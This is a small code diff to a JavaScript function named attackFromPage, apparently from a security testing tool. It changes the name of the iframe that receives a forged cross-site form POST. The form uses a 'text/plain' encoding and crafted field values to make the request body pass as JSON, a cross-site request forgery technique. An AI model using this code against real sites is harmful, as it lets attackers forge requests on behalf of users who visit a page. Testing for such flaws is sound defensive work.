@@ -53,9 +53,9 @@ export async function attackFromPage({ post, get }) {
       frame.src = get;
     }),
   ]);
-  frame.name = 'answers';
+  frame.name = `answers of ${post}`;
   const form = document.createElement('form');
-  Object.assign(form, { method: 'POST', action: post, enctype: 'text/plain', target: 'answers' });
+  Object.assign(form, { method: 'POST', action: post, enctype: 'text/plain', target: frame.name });
   const field = document.createElement('input');
   Object.assign(field, { name: body.slice(0, -2), value: '"}' });
   form.append(field);
